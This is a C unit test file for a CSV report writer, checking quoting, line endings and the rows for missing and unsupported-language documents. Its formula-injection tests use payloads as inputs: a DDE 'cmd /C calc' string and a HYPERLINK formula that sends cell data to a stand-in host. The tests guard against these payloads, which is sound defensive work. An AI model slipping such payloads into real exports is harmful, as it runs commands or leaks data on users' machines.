/*
 * test_report_csv.c -- the CSV writer at every level: the output is read
 * back with libcsv's parser and compared field by field, so quoting of
 * commas, quotes, newlines, UTF-8 and outer blanks is checked end to end;
 * line ends, the header rows and the single row of an unreadable document
 * are checked on the bytes.  The field writer itself (csvout.c) is checked
 * byte for byte on each case that decides quoting.
 */
#include "config.h"

#include <csv.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "csvout.h"
#include "report_fixture.h"

#define FFFD "\xef\xbf\xbd"

struct row {
	char		**f;
	size_t		 n;
};

struct table {
	struct row	*rows;
	size_t		 n;
	struct row	 cur;
};

static void
on_field(void *s, size_t len, void *data)
{
	struct table *t = data;

	t->cur.f = xreallocarray(t->cur.f, t->cur.n + 1, sizeof(*t->cur.f));
	t->cur.f[t->cur.n++] = s != NULL ? xstrndup(s, len) : xstrdup("");
}

static void
on_row(int c, void *data)
{
	struct table *t = data;

	t->rows = xreallocarray(t->rows, t->n + 1, sizeof(*t->rows));
	t->rows[t->n++] = t->cur;
	memset(&t->cur, 0, sizeof(t->cur));
}

static int
parse(const char *buf, size_t len, struct table *t)
{
	struct csv_parser p;
	int rc = 0;

	memset(t, 0, sizeof(*t));
	if (csv_init(&p, CSV_STRICT | CSV_STRICT_FINI) != 0)
		return -1;
	if (csv_parse(&p, buf, len, on_field, on_row, t) != len ||
	    csv_fini(&p, on_field, on_row, t) != 0)
		rc = -1;
	csv_free(&p);
	return rc;
}

static void
table_free(struct table *t)
{
	size_t i, j;

	for (i = 0; i < t->n; i++) {
		for (j = 0; j < t->rows[i].n; j++)
			free(t->rows[i].f[j]);
		free(t->rows[i].f);
	}
	free(t->rows);
}

/* Every row has n fields; every LF outside quotes follows a CR. */
static void
check_shape(const char *buf, size_t len, const struct table *t, size_t rows,
    size_t n)
{
	size_t i;
	int quoted = 0;

	CHECK_INT(t->n, rows);
	for (i = 0; i < t->n; i++)
		CHECK_INT(t->rows[i].n, n);
	for (i = 0; i < len; i++) {
		if (buf[i] == '"')
			quoted = !quoted;
		else if (buf[i] == '\n' && !quoted)
			CHECK(i > 0 && buf[i - 1] == '\r');
	}
	CHECK(len >= 2 && buf[len - 2] == '\r' && buf[len - 1] == '\n');
}

static int
starts_with(const char *s, const char *prefix)
{
	return strncmp(s, prefix, strlen(prefix)) == 0;
}

static void
check_row(const struct table *t, size_t i, const char *const *want,
    size_t n)
{
	size_t j;

	if (i >= t->n || t->rows[i].n != n) {
		CHECK(!"row missing or of the wrong width");
		return;
	}
	for (j = 0; j < n; j++)
		CHECK_STR(t->rows[i].f[j], want[j]);
}

/* The report at a level, checked to start with the header, to read back
   as rows rows of n fields and to end its lines with CRLF.  Returns the
   bytes (caller frees) and the table in *t (caller frees). */
static char *
render_table(const struct ruleset *rs, enum report_level level,
    int evidence, const char *header, size_t rows, size_t n, struct table *t)
{
	char *buf;
	size_t len;

	buf = rf_render(FORMAT_CSV, rs, level, evidence, &len);
	CHECK(starts_with(buf, header));
	CHECK_INT(parse(buf, len, t), 0);
	check_shape(buf, len, t, rows, n);
	return buf;
}

static void
test_objective(const struct ruleset *rs)
{
	static const char *const p1[] = { RF_PATH1, RF_SHA, "P", "P1",
	    "Principle one", "partial", "50.0", "1", "2", "1", "2.3", "1",
	    "evidence 1.00 of 2 needed; 1 of 2 rules fired", "", "0", "1.00",
	    "en", "not-policy-text" };
	/* A conflict beside an absent objective; both in the message. */
	static const char *const aa11[] = { RF_PATH1, RF_SHA, "AA1", "AA1.1",
	    "Free flow of data", "absent", "0.0", "0", "1", "1", "2.3",
	    "2", "evidence 0.00 of 1 needed; 0 of 1 rule fired; "
	    "conflict: AA1.1.x", "error", "1", "0.00", "en", "not-policy-text" };
	static const char *const aa12[] = { RF_PATH1, RF_SHA, "AA1", "AA1.2",
	    "Many \"rules\", one objective", "absent", "0.0", "0", "4", "0",
	    "0.0", "", "evidence 0.00 of 2 needed; 0 of 4 rules fired", "",
	    "0", "0.00", "en", "not-policy-text" };
	/* Hortatory 0.9 and a list of terms 0.2: 1.1 of 2. */
	static const char *const aa21[] = { RF_PATH1, RF_SHA, "AA2", "AA2.1",
	    "Rights online", "partial", "55.0", "2", "2", "2", "4.6", "3",
	    "evidence 1.10 of 2 needed; 2 of 2 rules fired", "", "0", "1.10",
	    "en", "not-policy-text" };
	static const char *const err[] = { "missing.pdf", "", "", "", "",
	    "error", "", "", "", "", "", "", RF_ERROR, "", "", "", "", "" };
	/* A document in a language the rules do not read: one row, not its
	   objectives as absent. */
	static const char *const fr[] = { RF_PATH4, RF_SHA, "", "", "",
	    "unsupported-language", "", "", "", "", "", "", RF_NOVERDICT,
	    "", "", "", "fr", "" };
	struct table t;
	char *buf;

	buf = render_table(rs, LEVEL_OBJECTIVE, 0, "document,sha256,area,"
	    "objective,title,status,score,rules_fired,rules_total,hits,"
	    "hits_per_10k_words,first_line,message,conflict,conflicts,"
	    "evidence,language,flags\r\n", 1 + 4 + 1 + 4 + 1, 18, &t);
	/* Quoted by libcsv only where needed. */
	CHECK(strstr(buf, "\r\n\"dir/a,b \"\"q\"\".txt\",") != NULL);
	CHECK(strstr(buf, ",partial,50.0,1,2,1,2.3,1,evidence 1.00 of 2 "
	    "needed; 1 of 2 rules fired,,0,1.00,en,not-policy-text\r\n") != NULL);
	CHECK(strstr(buf, "\r\nmissing.pdf,,,,,error,,,,,,,") != NULL);
	check_row(&t, 0, (const char *const[]){ "document", "sha256", "area",
	    "objective", "title", "status", "score", "rules_fired",
	    "rules_total", "hits", "hits_per_10k_words", "first_line",
	    "message", "conflict", "conflicts", "evidence", "language",
	    "flags" }, 18);
	check_row(&t, 1, p1, 18);
	check_row(&t, 2, aa11, 18);
	check_row(&t, 3, aa12, 18);
	check_row(&t, 4, aa21, 18);
	check_row(&t, 5, err, 18);
	CHECK_STR(t.rows[6].f[0], "ctl" FFFD "name.txt");
	CHECK_STR(t.rows[6].f[5], "absent");
	CHECK_STR(t.rows[6].f[10], "0.0");
	CHECK_STR(t.rows[6].f[16], "und");
	check_row(&t, 10, fr, 18);
	table_free(&t);
	free(buf);
}

static void
test_area(const struct ruleset *rs)
{
	static const char *const aa1[] = { RF_PATH1, RF_SHA, "AA1",
	    "action-area", "Build & protect", "0.0", "0", "0", "2", "1",
	    "conflict: AA1.1", "ok", "en", "not-policy-text" };
	static const char *const err[] = { "missing.pdf", "", "", "", "", "",
	    "", "", "", "", RF_ERROR, "error", "", "" };
	static const char *const fr[] = { RF_PATH4, RF_SHA, "", "", "", "",
	    "", "", "", "", RF_NOVERDICT, "unsupported-language", "fr", "" };
	struct table t;
	char *buf;

	buf = render_table(rs, LEVEL_AREA, 0, "document,sha256,area,kind,"
	    "title,score,covered,partial,absent,contradicted,message,status,"
	    "language,flags\r\n", 1 + 3 + 1 + 3 + 1, 14, &t);
	check_row(&t, 2, aa1, 14);
	check_row(&t, 4, err, 14);
	check_row(&t, 8, fr, 14);
	CHECK_STR(t.rows[1].f[3], "principle");
	CHECK_STR(t.rows[1].f[5], "50.0");
	CHECK_STR(t.rows[3].f[5], "55.0");
	table_free(&t);
	free(buf);
}

static void
test_document(const struct ruleset *rs)
{
	static const char *const ok[] = { RF_PATH1, RF_SHA, "ok", "27.5",
	    "50.0", "4321", "1", "4", "4", RF_WARNING, "en", "not-policy-text",
	    "en 80%, fr 20%" };
	static const char *const err[] = { "missing.pdf", "", "error", "", "",
	    "", "", "", "", RF_ERROR, "", "", "" };
	static const char *const empty[] = { "ctl" FFFD "name.txt", "", "ok",
	    "0.0", "0.0", "0", "0", "4", "0", "", "und", "", "" };
	/* Its words, but no scores. */
	static const char *const fr[] = { RF_PATH4, RF_SHA,
	    "unsupported-language", "", "", "120", "", "", "", RF_NOVERDICT,
	    "fr", "", "" };
	struct table t;
	char *buf;

	buf = render_table(rs, LEVEL_DOCUMENT, 0, "document,sha256,status,"
	    "overall,principles,words,conflicts,gaps,hits,message,language,"
	    "flags,languages\r\n", 5, 13, &t);
	/* Outer blanks are quoted, or a reader would trim them; the mix
	   holds a comma. */
	CHECK(strstr(buf, ",\"" RF_WARNING "\",en,not-policy-text,"
	    "\"en 80%, fr 20%\"\r\n") != NULL);
	check_row(&t, 1, ok, 13);
	check_row(&t, 2, err, 13);
	check_row(&t, 3, empty, 13);
	check_row(&t, 4, fr, 13);
	table_free(&t);
	free(buf);
}

static void
test_evidence(const struct ruleset *rs)
{
	static const char *const h0[] = { RF_PATH1, "P1.a", "P1", "P",
	    "support", "warning", "1", "1", "3", "0", RF_MATCH1, "binding",
	    "In" RF_MATCH1 "we meet.", "statement", "1.00", "", "ok", "en",
	    "not-policy-text", "en" };
	static const char *const h1[] = { RF_PATH1, "AA1.1.x", "AA1.1", "AA1",
	    "conflict", "error", "2", "5", "", "40", "data, \"localisation\"",
	    "mention", RF_SENTENCE2, "statement", "0.80", RF_SECTION2, "ok",
	    "en", "not-policy-text", "en" };
	/* No hit, but the document is there, and why. */
	static const char *const fr[] = { RF_PATH4, "", "", "", "", "", "",
	    "", "", "", "", "", "", "", "", "", "unsupported-language", "fr",
	    "", "" };
	struct table t;
	char *buf;

	buf = render_table(rs, LEVEL_OBJECTIVE, 1, "document,rule,objective,"
	    "area,kind,severity,line,column,page,byte_offset,match,modality,"
	    "sentence,sentence_kind,weight,section,status,language,flags,"
	    "lang\r\n", 1 + 4 + 1, 20, &t);
	check_row(&t, 1, h0, 20);
	check_row(&t, 2, h1, 20);
	check_row(&t, 5, fr, 20);
	CHECK_STR(t.rows[3].f[19], "fr");
	CHECK_STR(t.rows[3].f[10], "rights" FFFD);
	CHECK_STR(t.rows[3].f[11], "hortatory");
	CHECK_STR(t.rows[3].f[14], "0.90");
	CHECK_STR(t.rows[4].f[13], "terms");
	CHECK_STR(t.rows[4].f[14], "0.20");
	table_free(&t);
	free(buf);
}

static void
test_deterministic(const struct ruleset *rs)
{
	char *a;
	size_t alen;

	CHECK(rf_render_twice(FORMAT_CSV, rs, &a, &alen));
	free(a);
}

/* Fields through csvout_field, one row; returns the bytes (caller frees). */
static char *
write_row(const char *const *fields, size_t n, unsigned flags)
{
	FILE *fp;
	char *buf = NULL;
	size_t len = 0, i;

	if ((fp = open_memstream(&buf, &len)) == NULL)
		abort();
	for (i = 0; i < n; i++)
		csvout_field(fp, fields[i], flags | (i == 0 ? CSVOUT_FIRST : 0));
	CHECK_INT(csvout_end_row(fp), 0);
	fclose(fp);
	return buf;
}

/* One field written alone, with flags, is want and the row's CRLF. */
static void
check_field(const char *in, unsigned flags, const char *want)
{
	const char *row[1] = { in };
	char *got, *line;

	got = write_row(row, 1, flags);
	line = xasprintf("%s\r\n", want);
	CHECK_STR(got, line);
	free(line);
	free(got);
}

static void
test_field(void)
{
	static const struct {
		const char	*in;
		const char	*out;
	} t[] = {
		{ "plain", "plain" },
		{ "", "" },
		{ "a,b", "\"a,b\"" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
		{ "\"", "\"\"\"\"" },
		{ "two\nlines", "\"two\nlines\"" },
		{ "cr\rhere", "\"cr\rhere\"" },
		{ " lead", "\" lead\"" },
		{ "trail ", "\"trail \"" },
		{ "\ttab", "'\ttab" },	/* neutralised: no longer leads */
		{ "x\ttab", "x\ttab" },
		{ "tab\t", "\"tab\t\"" },
		{ "in side", "in side" },
		{ "caf\xc3\xa9", "caf\xc3\xa9" },
	};
	const char *row[3];
	char *got;
	size_t i;

	for (i = 0; i < nitems(t); i++)
		check_field(t[i].in, 0, t[i].out);
	/* A comma before every field but the first; NULL is empty. */
	row[0] = "a";
	row[1] = NULL;
	row[2] = "c,d";
	got = write_row(row, 3, 0);
	CHECK_STR(got, "a,,\"c,d\"\r\n");
	free(got);
	row[0] = NULL;
	got = write_row(row, 1, 0);
	CHECK_STR(got, "\r\n");
	free(got);
}

/*
 * Formula injection (OWASP): a field starting with = + - @ TAB or CR gets a
 * "'" unless it is a plain number; CSVOUT_RAW writes it as it is; a field
 * already starting with "'" is left alone, and csvout_unneutral() undoes
 * exactly what was done.
 */
static void
test_neutralise(void)
{
	static const struct {
		const char	*in;
		const char	*safe;
		const char	*raw;
	} t[] = {
		{ "=1+2", "'=1+2", "=1+2" },
		{ "=HYPERLINK(\"http://x/\"&A1,\"open\")",
		  "\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"open\"\")\"",
		  "\"=HYPERLINK(\"\"http://x/\"\"&A1,\"\"open\"\")\"" },
		{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0",
		  "+cmd|' /C calc'!A0" },
		{ "-2+3", "'-2+3", "-2+3" },
		{ "@SUM(A1:A2)", "'@SUM(A1:A2)", "@SUM(A1:A2)" },
		{ "\t=1", "'\t=1", "\"\t=1\"" },
		{ "\r=1", "\"'\r=1\"", "\"\r=1\"" },
		{ "=a,b", "\"'=a,b\"", "\"=a,b\"" },
		{ "@x.txt", "'@x.txt", "@x.txt" },
		{ "-", "'-", "-" },
		{ "-.5", "'-.5", "-.5" },
		{ "-1.", "'-1.", "-1." },
		{ "-1e5", "'-1e5", "-1e5" },
		{ "-0.25", "-0.25", "-0.25" },
		{ "-25", "-25", "-25" },
		{ "42.5", "42.5", "42.5" },
		{ "'=1+2", "'=1+2", "'=1+2" },
		{ "a=b", "a=b", "a=b" },
		{ " =1", "\" =1\"", "\" =1\"" },
	};
	size_t i;

	for (i = 0; i < nitems(t); i++) {
		check_field(t[i].in, 0, t[i].safe);
		check_field(t[i].in, CSVOUT_RAW, t[i].raw);
	}
	CHECK_STR(csvout_unneutral("'=1+2"), "=1+2");
	CHECK_STR(csvout_unneutral("'@x.txt"), "@x.txt");
	CHECK_STR(csvout_unneutral("'-25"), "'-25");
	CHECK_STR(csvout_unneutral("'abc"), "'abc");
	CHECK_STR(csvout_unneutral("=1"), "=1");
	CHECK_STR(csvout_unneutral(""), "");
}

int
main(void)
{
	struct ruleset *rs = rf_ruleset();

	test_field();
	test_neutralise();
	test_objective(rs);
	test_area(rs);
	test_document(rs);
	test_evidence(rs);
	test_deterministic(rs);
	fx_ruleset_free(rs);
	return CHECK_DONE();
}
